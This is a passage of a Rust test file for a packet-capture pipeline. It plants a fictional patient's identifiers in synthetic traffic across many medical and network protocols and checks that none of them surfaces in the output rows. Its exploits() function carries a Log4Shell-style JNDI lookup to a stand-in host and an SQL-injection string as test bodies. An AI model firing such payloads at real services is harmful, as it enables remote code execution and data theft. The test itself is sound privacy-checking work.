//! One patient's name, number and date of birth, planted wherever a protocol lets a person write: none of it stands in any row.
//!
//! The conversations go in as packets and are found by what they are, so that the rows of `conn` are searched too.

#[path = "planted_talks/datagrams.rs"]
mod datagrams;
#[path = "planted_talks/domain.rs"]
mod domain;
#[path = "planted_talks/logins.rs"]
mod logins;

use std::net::Ipv4Addr;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use wire::capture::Packet;
use wire::keys::Keys;
use wire::pipeline::Pipeline;
use wire::testing::{rows, PlainRows};

use datagrams::*;
use domain::*;
use logins::*;

const PLANTED: [&str; 4] = ["MRN004711", "Mustermann", "Erika", "19640812"];

const CLIENT: (Ipv4Addr, u16) = (Ipv4Addr::new(10, 0, 0, 1), 40_000);
const SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);
const TCP: u8 = 6;
const UDP: u8 = 17;
const ICMP: u8 = 1;

/// A conversation: what it must be found to be, its protocol and port, and what both sides say in turn, the client first.
struct Talk {
    service: &'static str,
    /// Streams of which it gives rows, beyond what the service tells.
    streams: &'static [&'static str],
    proto: u8,
    port: u16,
    said: Vec<Vec<u8>>,
}

impl Talk {
    fn of(self, streams: &'static [&'static str]) -> Talk {
        Talk { streams, ..self }
    }
}

fn talk(service: &'static str, proto: u8, port: u16, said: &[&[u8]]) -> Talk {
    let said = said.iter().map(|bytes| bytes.to_vec()).collect();
    Talk {
        service,
        streams: &[],
        proto,
        port,
        said,
    }
}

fn packet(from_client: bool, talk: &Talk, transport: &[u8], data: &[u8]) -> Vec<u8> {
    let server = (SERVER, talk.port);
    let ((_, sport), (_, dport)) = if from_client { (CLIENT, server) } else { (server, CLIENT) };
    let ports = [sport.to_be_bytes(), dport.to_be_bytes()].concat();
    datagram(from_client, talk.proto, &[&ports, transport, data].concat())
}

fn datagram(from_client: bool, proto: u8, payload: &[u8]) -> Vec<u8> {
    let (src, dst) = if from_client { (CLIENT.0, SERVER) } else { (SERVER, CLIENT.0) };
    let length = 20 + payload.len();
    let mut p = vec![0x45, 0];
    p.extend(u16::try_from(length).unwrap().to_be_bytes());
    p.extend([0, 0, 0, 0, 64, proto, 0, 0]);
    p.extend(src.octets());
    p.extend(dst.octets());
    p.extend(payload);
    p
}

fn packets(talk: &Talk) -> Vec<Vec<u8>> {
    if talk.proto == ICMP {
        return talk
            .said
            .iter()
            .enumerate()
            .map(|(n, data)| datagram(n % 2 == 0, ICMP, data))
            .collect();
    }
    if talk.proto == UDP {
        let datagram = |(n, data): (usize, &Vec<u8>)| {
            let length = u16::try_from(8 + data.len()).unwrap().to_be_bytes();
            packet(n % 2 == 0, talk, &[length[0], length[1], 0, 0], data)
        };
        return talk.said.iter().enumerate().map(datagram).collect();
    }
    let (mut next, mut all) = ([100u32, 900], Vec::new());
    let mut segment = |client: bool, flags: u8, data: &[u8]| {
        let (own, other) = if client { (0, 1) } else { (1, 0) };
        let head = [
            &next[own].to_be_bytes()[..],
            &next[other].to_be_bytes(),
            &[0x50, flags, 255, 255, 0, 0, 0, 0],
        ]
        .concat();
        all.push(packet(client, talk, &head, data));
        next[own] += u32::try_from(data.len()).unwrap() + u32::from(flags & 3 != 0);
    };
    segment(true, 2, b"");
    segment(false, 18, b"");
    for (n, data) in talk.said.iter().enumerate().filter(|(_, data)| !data.is_empty()) {
        segment(n % 2 == 0, 24, data);
    }
    segment(true, 17, b"");
    segment(false, 17, b"");
    all
}

fn read(talk: &Talk) -> PlainRows {
    read_all(&packets(talk))
}

fn read_all(packets: &[Vec<u8>]) -> PlainRows {
    let mut pipeline = Pipeline::new(Keys::new(&[7; 32], "k1"), "test".to_owned());
    for (n, data) in packets.iter().enumerate() {
        pipeline.packet(Packet {
            ts: 1_700_000_000_000_000_000 + n as i64 * 1_000_000,
            link: 101,
            data,
            wire_len: data.len(),
        });
    }
    pipeline.finish();
    rows(&mut pipeline.out)
}

fn words(values: &[u16]) -> Vec<u8> {
    values.iter().flat_map(|v| v.to_be_bytes()).collect()
}

fn counted(bytes: &[u8]) -> Vec<u8> {
    [&words(&[u16::try_from(bytes.len()).unwrap()]), bytes].concat()
}

fn dhcp() -> Talk {
    let mut message = vec![0; 236];
    message[..4].copy_from_slice(&[1, 1, 6, 0]);
    message.extend([0x63, 0x82, 0x53, 0x63]);
    for (code, value) in [
        (53, &b"\x01"[..]),
        (12, b"iPhone-von-Erika-Mustermann"),
        (15, b"erika-mustermann.local"),
        (60, b"android-dhcp-13 Erika Mustermann MRN004711"),
        (61, b"\x00Erika Mustermann 19640812"),
        (77, b"Mustermann, Erika *19640812"),
        (81, b"\x00\x00\x00MRN004711-19640812.Erikas-MBP.local"),
        (119, b"Mustermann"),
        (82, b"\x01\x0aMustermann"),
    ] {
        message.extend([code, u8::try_from(value.len()).unwrap()]);
        message.extend(value);
    }
    message.push(255);
    talk("dhcp", UDP, 67, &[&message])
}

fn name(text: &str) -> Vec<u8> {
    let labels = text
        .split('.')
        .flat_map(|l| [&[u8::try_from(l.len()).unwrap()], l.as_bytes()].concat());
    labels.chain([0]).collect()
}

/// A question and its answer by PTR, TXT, SRV and MX, all about the same.
fn dns(service: &'static str, port: u16, about: &str) -> Talk {
    let record = |kind: u16, data: &[u8]| [&words(&[0xc00c, kind, 1, 0, 60]), &counted(data)[..]].concat();
    let ask = [words(&[7, 0x0100, 1, 0, 0, 0]), name(about), words(&[1, 1])].concat();
    let records = [
        record(12, &name(about)),
        record(16, b"\x10Erika Mustermann"),
        record(33, &[words(&[0, 5, 104]), name(about)].concat()),
        record(15, &[words(&[10]), name(about)].concat()),
        record(13, b"\x05Erika\x0aMustermann"),
    ];
    let answer = [words(&[7, 0x8180, 1, 5, 0, 0]), name(about), words(&[1, 1]), records.concat()].concat();
    talk(service, UDP, port, &[&ask, &answer])
}

fn netbios(user: &str, suffix: u8) -> Talk {
    let padded = user.bytes().chain(std::iter::repeat(b' ')).take(15).chain([suffix]);
    let label: String = padded
        .flat_map(|b| [char::from(b'A' + (b >> 4)), char::from(b'A' + (b & 15))])
        .collect();
    let ask = [words(&[3, 0x0110, 1, 0, 0, 0]), name(&label), words(&[0x20, 1])].concat();
    talk("netbios-ns", UDP, 137, &[&ask])
}

fn http() -> Talk {
    talk(
        "http",
        TCP,
        80,
        &[
            b"GET /patients/Mustermann%5EErika/MRN004711.pdf?name=Mustermann&dob=19640812&Erika=1 HTTP/1.1\r\nHost: Erikas-MBP.fritz.box\r\n\
                User-Agent: Viewer/1.0 (Mustermann, Erika; *19640812) MRN004711 Erika.Mustermann/1.0\r\n\
                Referer: http://erika:19640812@iphone-von-erika-mustermann.lan/MRN004711\r\nAuthorization: Digest username=\"Mustermann\"\r\n\
                Cookie: p=MRN004711\r\nContent-Type: Mustermann/Erika\r\nAccept: application/Mustermann\r\n\r\n",
            b"HTTP/1.1 200 Erika Mustermann\r\nServer: nginx (Mustermann) Erika\r\nContent-Type: application/x-Mustermann-19640812\r\n\
                X-Patient: MRN004711\r\nContent-Length: 16\r\n\r\nErika Mustermann",
        ],
    )
}

/// Bodies that hold an exploit and a person.
fn exploits() -> [Talk; 2] {
    let post = |media: &str, body: &str| {
        let length = body.len();
        let request = format!("POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: {media}\r\nContent-Length: {length}\r\n\r\n{body}");
        let answer = b"HTTP/1.1 204 No Content\r\n\r\n";
        talk("http", TCP, 80, &[request.as_bytes(), answer]).of(&["http"])
    };
    [
        post(
            "application/json",
            "{\"family\":\"${jndi:ldap://x/MRN004711}\",\"given\":\"Erika\"}",
        ),
        post(
            "application/x-www-form-urlencoded",
            "name=Mustermann%27+or+%271%27%3d%271&born=19640812",
        ),
    ]
}

/// Two requests and their answers over HTTP/2, all texts in Huffman code and entered in the tables: what the first answer says of the server,
/// the second refers to. The second request has a method of its own.
fn http2() -> Talk {
    let frame = |kind: u8, flags: u8, stream: u8, payload: &[u8]| {
        let length = u16::try_from(payload.len()).unwrap().to_be_bytes();
        [&[0, length[0], length[1], kind, flags, 0, 0, 0, stream], payload].concat()
    };
    let block = |hex: &str| -> Vec<u8> {
        let byte = |n: usize| u8::from_str_radix(&hex[n..n + 2], 16).unwrap();
        (0..hex.len()).step_by(2).map(byte).collect()
    };
    let asked = block(
        "828644b06259cd631ac69316a4b1a36e9001a7421ff2a1d258345a8496ca47555f119ac4cf20d25802fb8d01e08be30586ea38034190c161ba8d0b68bbad796c327daf\
        19fcff579fba51d85b14d1b74800d3a10afa2d424b6523aaa5f0586ea35c2fb8d01e08bf7aa7e262f82d8c057029fd68b5092d948eaabe94c161ba8fed4f90bee34078\
        22fed4d1b74800d3a10f73ae9d29aee30c16c3751dc0bee3407822ffd1ab9cf5156ee7a962d86ea35a9b5092d948eaa97a07531a36e9001a74216089ae0d1b74800d3a\
        10ff408df2b16c3751ad4da8496ca47555860bee3407822f53901d75d0620d263d4c68b5092d948eaabf",
    );
    let again = block("4285c1b726687f86c6c5c4c35f8cd16a125b291d553182c3751f");
    let said = block(
        "887693aa6355e54feb45a8496ca47555fda982c3751f5f981d75d0620d263d4c795b45a8496ca47554b05f71a03c117f4087f2b563498b527f87d1b74800d3a10f",
    );
    let said_again = block("8dc0bf778cc161ba8e0d1b74800d3a10ff");
    let client = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        &frame(4, 0, 0, &[])[..],
        &frame(1, 5, 1, &asked),
        &frame(1, 4, 3, &again),
        &frame(0, 1, 3, b"Erika Mustermann"),
    ];
    let server = [
        frame(4, 0, 0, &[]),
        frame(1, 4, 1, &said),
        frame(1, 5, 3, &said_again),
        frame(0, 1, 1, b"Mustermann, Erika *19640812"),
        frame(7, 0, 0, b"\0\0\0\x03\0\0\0\0MRN004711 Erika"),
    ];
    talk("http", TCP, 8080, &[&client.concat(), &server.concat()])
}

/// SOAP of a medical device in which every text that people may write is a person's.
fn soap(action: &str, body: &str) -> String {
    format!(
        "<s:Envelope xmlns:s='http://www.w3.org/2003/05/soap-envelope' xmlns:a='http://www.w3.org/2005/08/addressing' \
        xmlns:d='http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01' xmlns:p='http://docs.oasis-open.org/ws-dd/ns/dpws/2009/01' \
        xmlns:m='http://standards.ieee.org/downloads/11073/11073-20702-2016' xmlns:q='http://standards.ieee.org/downloads/11073/11073-10207-2017/participant' \
        xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xmlns:Erika='urn:Mustermann'><s:Header><a:Action>{action}</a:Action>\
        <a:MessageID>urn:Erika:MRN004711</a:MessageID><a:RelatesTo>Mustermann</a:RelatesTo><a:To>http://erikas-mbp.local/Mustermann</a:To></s:Header>\
        <s:Body>{body}</s:Body></s:Envelope>"
    )
}

fn discovery() -> Talk {
    let hello = soap(
        "http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01/Hello",
        "<d:Hello><a:EndpointReference><a:Address>urn:MRN004711:Erika</a:Address></a:EndpointReference><d:Types>m:MedicalDevice m:Mustermann Erika:Erika</d:Types>\
        <d:Scopes>sdc.ctxt.loc:/x/Erika%2FMustermann?fac=Erika%20Mustermann&amp;bed=19640812&amp;rm=MRN004711&amp;Mustermann=1 sdc.ctxt.pat:/MRN004711 urn:Mustermann \
        sdc.cdc.type:/19640812/004711</d:Scopes><d:XAddrs>http://iphone-von-erika-mustermann.lan:80/MRN004711</d:XAddrs></d:Hello>",
    );
    talk("ws-discovery", UDP, 3702, &[hello.as_bytes()])
}

fn sdc() -> Talk {
    let patient = "<m:EpisodicContextReport MdibVersion='19640812Erika'><q:ContextState Handle='MRN004711' xsi:type='q:PatientContextState'>\
        <q:Identification Root='Erika' Extension='MRN004711'/><q:CoreData><q:Givenname>Erika</q:Givenname><q:Familyname>Mustermann</q:Familyname>\
        <q:DateOfBirth>19640812</q:DateOfBirth></q:CoreData></q:ContextState></m:EpisodicContextReport>";
    let named = "<p:ThisDevice><p:FriendlyName>Monitor Erika Mustermann *19640812 MRN004711</p:FriendlyName></p:ThisDevice>\
        <s:Fault><s:Code><s:Value>Erika:Mustermann</s:Value></s:Code><s:Reason><s:Text>MRN004711</s:Text></s:Reason></s:Fault>";
    let http = |first: &str, body: &str| {
        let head = format!(
            "{first}\r\nContent-Type: application/soap+xml; action=\"Mustermann\"\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        [head, body.to_owned()].concat().into_bytes()
    };
    let request = soap(
        "http://standards.ieee.org/downloads/11073/11073-20701-2018/ContextService/Mustermann",
        patient,
    );
    let answer = soap("urn:Mustermann:Erika", named);
    talk(
        "http",
        TCP,
        54_805,
        &[
            &http("POST /Mustermann/MRN004711 HTTP/1.1\r\nHost: mon", &request),
            &http("HTTP/1.1 400 Erika", &answer),
        ],
    )
}

fn hl7_over_http() -> Talk {
    let http = |first: &str, body: &str| {
        let head = format!(
            "{first}\r\nContent-Type: application/hl7-v2\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        [head, body.to_owned()].concat().into_bytes()
    };
    let message =
        "MSH|^~\\&|LAB|CORE|EHR|MAIN|20260101||ORU^R01^ORU_R01|19640812|P|2.5.1\rPID|1||MRN004711^^^MAIN^MR||Mustermann^Erika||19640812\r\
        OBX|1|TX|NOTE||Erika Mustermann";
    let answer = "MSH|^~\\&|EHR|MAIN|LAB|CORE|20260101||ACK^R01|AMRN004711|P|2.5.1\rMSA|AA|19640812|Mustermann\r";
    talk(
        "http",
        TCP,
        8081,
        &[
            &http("POST /Erika/hl7 HTTP/1.1\r\nHost: ehr", message),
            &http("HTTP/1.1 200 Erika", answer),
        ],
    )
}

/// A search for a patient, and a file of that patient stored in a study of that name.
fn dicomweb() -> Talk {
    let query = "PatientID=MRN004711&PatientName=Mustermann%5EErika&00100030=19640812&Erika=Mustermann&includefield=Erika&requestType=WADO&studyUID=MRN004711";
    let search = format!(
        "GET /dicom-web/studies/MRN004711/series/Erika/instances/19640812/Mustermann?{query} HTTP/1.1\r\nHost: pacs\r\n\
        Accept: multipart/related; type=\"application/Mustermann\"; transfer-syntax=1.2.19640812, application/dicom+json; Erika=19640812\r\n\r\n"
    );
    let found =
        "[{\"00100010\":{\"vr\":\"PN\",\"Value\":[{\"Alphabetic\":\"Mustermann^Erika\"}]},\"00100020\":{\"Value\":[\"MRN004711\"]}}]";
    let json = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/dicom+json\r\nContent-Length: {}\r\n\r\n{found}",
        found.len()
    );
    let part = [
        &b"--Mustermann\r\nContent-Type: application/dicom; name=Erika\r\nContent-Location: MRN004711\r\n\r\nMZErika"[..],
        &[0; 121],
        b"DICMMustermann^Erika 19640812\r\n--Mustermann--",
    ]
    .concat();
    let store = format!(
        "POST /Erika/dicom-web/studies/1.2.19640812 HTTP/1.1\r\nContent-Type: multipart/related; type=\"application/dicom\"; boundary=Mustermann\r\n\
        Content-Length: {}\r\n\r\n",
        part.len()
    );
    talk(
        "http",
        TCP,
        8042,
        &[
            search.as_bytes(),
            json.as_bytes(),
            &[store.as_bytes(), &part].concat(),
            b"HTTP/1.1 200 Erika\r\nContent-Length: 0\r\n\r\n",
        ],
    )
}

/// Records of an analyser in which every field that people fill is a person's: in frames, then alone, then a query.
fn astm() -> Vec<Talk> {
    let frame = |number: usize, text: &str| {
        let body = [format!("{number}{text}\r").as_bytes(), &[3]].concat();
        let sum = body.iter().fold(0u8, |sum, b| sum.wrapping_add(*b));
        [b"\x02", body.as_slice(), format!("{sum:02X}\r\n").as_bytes()].concat()
    };
    let head = "H|\\^&|MRN004711|19640812|Mustermann^Erika^Praxis Mustermann^19640812^Erika|Erika|Mustermann|0123|Erika|Mustermann^Erika|MRN004711|E|Erika|19640812";
    let records = [
        head,
        "P|1|MRN004711|MRN004711^Erika|19640812|Mustermann^Erika|Erika|19640812|F|Erika|Mustermann|Erika|MRN004711|Mustermann",
        "O|1|MRN004711^Erika|Mustermann|^^^Erika|Erika|19640812||||Mustermann|A||Erika|||Mustermann",
        "R|1|^^^Erika|Mustermann|Erika|MRN004711|N|Erika|F|19640812|Mustermann^Erika|||Erika",
        "C|1|P|Erika Mustermann *19640812|G",
        "Q|1|MRN004711^Mustermann\\Erika^19640812||ALL|||||Erika",
        "M|1|Mustermann|Erika|MRN004711",
        "S|1|Erika|19640812",
        "Mustermann|Erika",
        "L|1|Erika",
    ];
    let framed: Vec<u8> = records
        .iter()
        .enumerate()
        .flat_map(|(n, record)| frame((n + 1) % 8, record))
        .collect();
    let raw = records.join("\r\n");
    let query = ["H|\\^&", "Q|1|MRN004711^19640812||Erika", "L|1|N", ""].join("\r");
    [&[b"\x05", framed.as_slice(), b"\x04"].concat(), raw.as_bytes(), query.as_bytes()]
        .map(|said| talk("astm", TCP, 4000, &[said]))
        .into()
}

/// A meter's hello with what people write into it, and observations, lists, notes and an acknowledgement full of a person.
fn poct1() -> Talk {
    let message = |kind: &str, body: &str| {
        format!("<{kind}><HDR><HDR.control_id V=\"MRN004711\"/><HDR.version_id V=\"Erika\"/><HDR.creation_dttm V=\"Mustermann\"/></HDR>{body}</{kind}>")
    };
    let device = "<DEV><DEV.device_id V=\"MRN004711 Erika\">Mustermann^Erika</DEV.device_id><DEV.vendor_id V=\"Mustermann^Erika\"/>\
        <DEV.model_id V=\"Erika Mustermann\"/><DEV.serial_id V=\"19640812\"/><DEV.manufacturer_name V=\"Praxis Mustermann\"/>\
        <DEV.sw_version V=\"Erika\">19640812</DEV.sw_version><DEV.device_name V=\"Erika\"/><DSC><DSC.connection_profile_cd V=\"ERIKA\"/>\
        <DSC.topics_supported_cd V=\"Mustermann\"/></DSC></DEV><PT><PT.patient_id V=\"MRN004711\"/></PT>";
    let person = "<PT><PT.patient_id V=\"MRN004711\"/><PT.location V=\"Erika\"/><PT.name V=\"Erika Mustermann\"><GIV V=\"Erika\"/><FAM V=\"Mustermann\"/></PT.name>\
        <PT.birth_date V=\"1964-08-12\"/><OBS><OBS.value V=\"Erika\"/><NTE><NTE.text V=\"Mustermann 19640812\">Erika</NTE></OBS></PT>\
        <OPR><OPR.operator_id V=\"Erika\"/><OPR.name V=\"Mustermann\"/></OPR><ORD><ORD.order_id V=\"MRN004711\"/></ORD>\
        <!-- Erika --><![CDATA[Mustermann]]>";
    let ack = "<ACK><ACK.type_cd V=\"ERIKA\"/><ACK.ack_control_id V=\"MRN004711\"/><ACK.note_txt V=\"Erika\"/><ACK.error_detail_cd V=\"Mustermann\"/></ACK>";
    let request = "<REQ><REQ.request_cd V=\"ERIKA\"/></REQ><PT><PT.patient_id V=\"MRN004711\"/></PT>";
    let status =
        "<DST><DST.condition_cd V=\"Erika\"/><DST.new_observations_qty V=\"Mustermann\"/></DST><PT><PT.patient_id V=\"MRN004711\"/></PT>";
    let there = [message("HEL.R01", device), message("OBS.R01", person), message("DST.R01", status)].concat();
    let back = [message("ACK.R01", ack), message("REQ.R01", request), message("PTL.R01", person)].concat();
    talk("poct1", TCP, 3001, &[there.as_bytes(), back.as_bytes()])
}

fn tls() -> Vec<Talk> {
    let hello = |host: &[u8]| {
        let name = [&[0u8][..], &counted(host)].concat();
        let extensions = [
            words(&[0]),
            counted(&counted(&name)),
            words(&[16]),
            counted(&counted(b"\x10Erika Mustermann\x09MRN004711")),
        ]
        .concat();
        let body = [
            &[3, 3][..],
            &[1; 32],
            &[0],
            &counted(&words(&[0xc02b])),
            &[1, 0],
            &counted(&extensions),
        ]
        .concat();
        let message = [&[1, 0][..], &counted(&body)].concat();
        [&[22, 3, 1][..], &counted(&message)].concat()
    };
    let hosts = [
        &b"Erika Mustermann"[..],
        b"erikas-iphone.local",
        b"pat-19640812.portal.example.de",
        b"mrn004711.local",
    ];
    hosts.iter().map(|host| talk("ssl", TCP, 443, &[&hello(host)])).collect()
}

/// An association and an image whose texts are a person's.
fn dicom() -> Talk {
    let pdu = |kind: u8, body: &[u8]| [&[kind, 0][..], &u32::try_from(body.len()).unwrap().to_be_bytes(), body].concat();
    let item = |kind: u8, value: &[u8]| [&[kind, 0][..], &counted(value)].concat();
    let element = |tag: u32, value: &[u8]| {
        let tag = [(tag >> 16) as u16, tag as u16].map(u16::to_le_bytes).concat();
        [&tag[..], &u32::try_from(value.len()).unwrap().to_le_bytes(), value].concat()
    };
    let ct = b"1.2.840.10008.5.1.4.1.1.2\0";
    let head = [&[0, 1, 0, 0][..], b"MRN004711       MUSTERMANN      ", &[0; 32]].concat();
    let implicit = item(0x40, b"1.2.840.10008.1.2");
    let asked = item(0x20, &[&[1, 0, 0, 0][..], &item(0x30, ct), &implicit].concat());
    let identity = item(0x58, &[&[2, 0][..], &counted(b"Mustermann"), &counted(b"19640812")].concat());
    let user = [item(0x55, b"ERIKA_19640812"), identity].concat();
    let request = [&head[..], &item(0x10, b"1.2.840.10008.3.1.1.1"), &asked, &item(0x50, &user)].concat();
    let answer = [
        &head[..],
        &item(0x21, &[&[1, 0, 0, 0][..], &implicit].concat()),
        &item(0x50, &item(0x55, b"MRN004711")),
    ]
    .concat();
    let command = [
        element(0x0000_0002, ct),
        element(0x0000_0100, &[1, 0]),
        element(0x0000_0110, &[1, 0]),
        element(0x0000_0800, &[1, 0]),
        element(0x0000_0902, b"Erika Mustermann"),
        element(0x0000_1030, b"MUSTERMANN"),
    ]
    .concat();
    let texts: &[(u32, &[u8])] = &[
        (0x0008_0050, b"MRN004711 "),
        (0x0008_0060, b"ERIKA "),
        (0x0008_0070, b"Mustermann"),
        (0x0008_0080, b"Praxis Erika Mustermann "),
        (0x0008_0090, b"Mustermann^Erika"),
        (0x0008_1010, b"ERIKA-19640812"),
        (0x0008_1030, b"Mustermann"),
        (0x0008_1090, b"CT of Erika "),
        (0x0010_0010, b"Mustermann^Erika"),
        (0x0010_0020, b"MRN004711 "),
        (0x0010_0030, b"19640812"),
        (0x0010_4000, b"Erika Mustermann"),
        (0x0018_1000, b"MRN004711 "),
        (0x0018_1002, b"1.2.3.19640812"),
        (0x0018_1020, b"Mustermann\\V1 "),
        (0x0020_000D, b"1.2.3.19640812"),
    ];
    let set: Vec<u8> = texts.iter().flat_map(|(tag, value)| element(*tag, value)).collect();
    let data = |control: u8, bytes: &[u8]| {
        let value = [&[1, control][..], bytes].concat();
        pdu(4, &[&u32::try_from(value.len()).unwrap().to_be_bytes()[..], &value].concat())
    };
    let sent = [data(3, &command), data(2, &set), pdu(5, &[0; 4])].concat();
    talk("dicom", TCP, 104, &[&pdu(1, &request), &pdu(2, &answer), &sent, &pdu(6, &[0; 4])])
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// NTLM on a proxy: names of user, domain and machine, and answers made of the date of birth.
fn ntlm() -> Talk {
    let message = |kind: u8, head: &[u8], parts: &[Vec<u8>]| {
        let (mut message, mut at) = ([b"NTLMSSP\0", &[kind, 0, 0, 0][..], head].concat(), 64);
        for part in parts {
            let length = u16::try_from(part.len()).unwrap().to_le_bytes();
            message.extend([length, length].concat());
            message.extend(u32::try_from(at).unwrap().to_le_bytes());
            at += part.len();
        }
        message.extend(1u32.to_le_bytes());
        [message, parts.concat()].concat()
    };
    let hash = b"1964081219640812196408121964081219640812Mustermann".to_vec();
    let machine = wide("Erikas-MBP");
    let answer = [
        hash[..24].to_vec(),
        hash,
        wide("MRN004711"),
        wide("Erika.Mustermann"),
        machine,
        Vec::new(),
    ];
    let pairs = [&[1, 0, 16, 0][..], &wide("ERIKA-PC"), &[3, 0, 32, 0], &wide("Erikas-MBP.local")].concat();
    let length = u16::try_from(pairs.len()).unwrap().to_le_bytes();
    let challenge = [&[0; 12][..], b"19640812", &[0; 8], &length, &length, &[48, 0, 0, 0], &pairs].concat();
    let head = |start: &str, field: &str, token: &[u8]| {
        let token = STANDARD.encode(token);
        format!("{start}\r\n{field}: NTLM {token}\r\nContent-Length: 0\r\n\r\n").into_bytes()
    };
    let ask = |token: &[u8]| head("GET http://pacs.test/ HTTP/1.1", "Proxy-Authorization", token);
    let said = [
        ask(&message(1, &[0; 20], &[])),
        head(
            "HTTP/1.1 407 Proxy Authentication Required",
            "Proxy-Authenticate",
            &message(2, &challenge, &[]),
        ),
        ask(&message(3, &[], &answer)),
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".to_vec(),
    ];
    talk("http", TCP, 3128, &said.each_ref().map(Vec::as_slice)).of(&["http", "ntlm"])
}

/// A user in the cookie, a person's machine, and its name where RDP protects itself.
fn rdp() -> Talk {
    let packet = |inside: &[u8]| [&[3, 0][..], &u16::try_from(inside.len() + 4).unwrap().to_be_bytes(), inside].concat();
    let cookie = b"Cookie: mstshash=Mustermann\r\n";
    let ask = [&[u8::try_from(cookie.len() + 6).unwrap(), 0xe0, 0, 0, 0, 0, 0], &cookie[..]].concat();
    let core = [&[0; 20][..], &wide("ERIKAS-MBP\0\0\0\0\0\0"), b"19640812MRN004711"].concat();
    let block = [&[1, 0xc0, u8::try_from(core.len() + 4).unwrap(), 0], &core[..]].concat();
    let client = [
        &b"\x02\xf0\x80\x7f\x65MustermannDuca"[..],
        &[u8::try_from(block.len()).unwrap()],
        &block,
    ]
    .concat();
    let server = b"\x02\xf0\x80\x7f\x66MustermannMcDn\x14\x02\x0c\x0c\0\x02\0\0\0\x03\0\0\0";
    let said = [packet(&ask), packet(&[6, 0xd0, 0, 0, 0, 0, 0]), packet(&client), packet(server)];
    talk("rdp", TCP, 3389, &said.each_ref().map(Vec::as_slice)).of(&["rdp"])
}

/// A password in clear, and a desktop named after its owner.
fn rfb() -> Talk {
    let said: [&[u8]; 11] = [
        b"",
        b"RFB 003.008\n",
        b"RFB 003.008\n",
        b"\x01\x13",
        b"\x13",
        b"\0\x02",
        b"\0\x02",
        b"\0\x01\0\0\x01\0",
        b"\0\0\x01\0\0\0\0\x0a\0\0\0\x08Mustermann19640812",
        b"\0\0\0\0",
        b"\x01",
    ];
    let greeting = [&[4, 0, 3, 0][..], &[0; 16], b"\0\0\0\x10Erika Mustermann"].concat();
    talk("rfb", TCP, 5900, &[&said[..], &[&greeting]].concat()).of(&["rfb"])
}

/// A person as community, user and everything that an agent may say of itself.
fn snmp() -> Vec<Talk> {
    let ber = |tag: u8, value: &[u8]| [&[tag, 0x81, u8::try_from(value.len()).unwrap()], value].concat();
    let binding = |number: u8, text: &[u8]| ber(0x30, &[ber(6, &[0x2b, 6, 1, 2, 1, 1, number, 0]), ber(4, text)].concat());
    let about = [
        binding(1, b"Linux erikas-mbp 6.1.0 Erika Mustermann"),
        binding(4, b"Mustermann, MRN004711"),
        binding(5, b"erika-mustermann"),
        binding(6, b"MRN004711"),
    ];
    let pdu = |kind: u8, bindings: &[u8]| ber(kind, &[ber(2, &[1]), ber(2, &[0]), ber(2, &[0]), ber(0x30, bindings)].concat());
    let plain = |pdu: &[u8]| ber(0x30, &[ber(2, &[1]), ber(4, b"Mustermann"), pdu.to_vec()].concat());
    let header = ber(0x30, &[ber(2, &[1]), ber(2, &[9, 9]), ber(4, &[1]), ber(2, &[3])].concat());
    let parameters = [
        ber(4, b"\x80\0\x1f\x88Mustermann"),
        ber(2, &[1]),
        ber(2, &[1]),
        ber(4, b"Erika"),
        ber(4, b"19640812"),
        ber(4, b""),
    ];
    let scoped = ber(0x30, &[ber(4, b"Erika"), ber(4, b"MRN004711"), pdu(0xa0, &[])].concat());
    let secured = ber(
        0x30,
        &[ber(2, &[3]), header, ber(4, &ber(0x30, &parameters.concat())), scoped].concat(),
    );
    let asked = plain(&pdu(0xa3, &binding(4, b"Erika")));
    vec![
        talk("snmp", UDP, 161, &[&asked, &plain(&pdu(0xa2, &about.concat()))]).of(&["snmp"]),
        talk("snmp", UDP, 161, &[&secured]).of(&["snmp"]),
    ]
}

fn everywhere() -> Vec<Talk> {
    let mut all = vec![
        icmp(),
        ntp(),
        ssdp(),
        stun(),
        syslog(),
        tftp(),
        dhcp(),
        http(),
        http2().of(&["http", "fhir"]),
        discovery().of(&["sdc"]),
        sdc().of(&["http", "sdc"]),
        hl7_over_http().of(&["http", "hl7"]),
        dicomweb().of(&["http", "dicomweb", "files"]),
        files().of(&["http", "files"]),
        attachment().of(&["smtp", "files"]),
        dicom(),
        poct1(),
        ntlm(),
        dce_rpc(),
        talk("krb", UDP, 88, &[&kerberos(), &refusal()]).of(&["kerberos"]),
        talk("krb", UDP, 88, &[&refusal()]).of(&["kerberos"]),
        rdp(),
        rfb(),
        netbios("ERIKA-PC", 0x00),
        netbios("ERIKA-PC", 0x20),
        netbios("MUSTERMANN", 0x03),
    ];
    all.extend(tls());
    all.extend(astm());
    all.extend(snmp());
    all.extend(banners());
    all.extend(mailboxes());
    all.extend(exploits());
    for about in [
        "Erikas-MBP.fritz.box",
        "iphone-von-erika-mustermann.lan",
        "MRN004711.ward.local",
        "Mustermann, Erika 19640812.local",
    ] {
        all.push(dns("dns", 53, about));
        all.push(dns("dns", 5353, about));
        all.push(dns("dns", 5355, about));
    }
    all.push(dns("dns", 5353, "Erika Mustermann._ipp._tcp.local"));
    all
}

/// The value in the forms in which it could have come through.
fn forms(value: &str) -> Vec<String> {
    let hex = |bytes: &[u8]| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let lower = value.to_lowercase();
    vec![
        hex(value.as_bytes()),
        hex(lower.as_bytes()),
        hex(value.to_uppercase().as_bytes()),
        lower,
    ]
}

fn nothing_is_planted_in(found: &PlainRows) {
    for (stream, row) in found.iter().flat_map(|(stream, rows)| rows.iter().map(move |row| (stream, row))) {
        for (column, text) in row {
            for form in PLANTED.iter().flat_map(|value| forms(value)) {
                assert!(!text.to_lowercase().contains(&form), "{stream}.{column} holds {text:?}");
            }
        }
    }
}

#[test]
fn nothing_planted_stands_in_any_row() {
    for talk in everywhere() {
        let found = read(&talk);
